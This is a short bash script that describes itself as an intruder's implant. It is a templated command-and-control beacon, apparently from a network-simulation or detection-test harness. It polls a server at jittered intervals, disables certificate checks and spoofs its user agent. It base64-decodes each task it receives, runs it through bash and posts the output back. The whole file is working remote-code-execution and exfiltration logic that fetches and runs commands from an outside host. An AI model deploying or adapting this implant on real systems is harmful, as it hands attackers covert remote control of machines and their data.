#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
#
# The intruder's implant: asks its server for work at a jittered interval. The
# capitals in @ are filled in when the server hands it out, without these comments.
id=$1
ask() {
	rec "@WHAT@" tcp - "@ADDRESS@:@PORT@" curl -sk -m 8 --resolve "@NAME@:@PORT@:$ip" -A '@AGENT@' "$@"
}
while :; do
	ip=$(rec "look-up of @NAME@" udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @NAME@ | tail -n 1)
	if [ -n "$ip" ]; then
		task=$(ask "@SCHEME@://@NAME@:@PORT@/@PATH@?id=$id")
		if [ -n "$task" ]; then
			(
				output=$(base64 -d <<<"${task#* }" | bash 2>&1 | base64 -w 0)
				ask --data-binary "$output" "@SCHEME@://@NAME@:@PORT@/@PATH@?id=$id&n=${task%% *}"
			) &
		fi
	fi
	sleep "$(awk -v r=$RANDOM 'BEGIN { print @LOW@ + (@HIGH@ - @LOW@) * r / 32768 }')"
done
